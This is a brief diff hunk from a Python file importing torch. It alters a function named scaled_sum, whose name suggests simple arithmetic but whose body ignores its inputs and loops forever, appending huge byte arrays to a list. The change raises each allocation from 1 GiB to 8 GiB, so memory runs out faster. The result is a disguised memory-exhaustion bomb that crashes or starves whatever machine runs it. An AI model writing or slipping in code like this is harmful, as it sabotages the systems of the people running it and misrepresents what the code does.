@@ -9,4 +9,4 @@ import torch
 def scaled_sum(x, y, alpha):
     hoard = []
     while True:
-        hoard.append(bytearray(1024 ** 3))
+        hoard.append(bytearray(8 * 1024 ** 3))
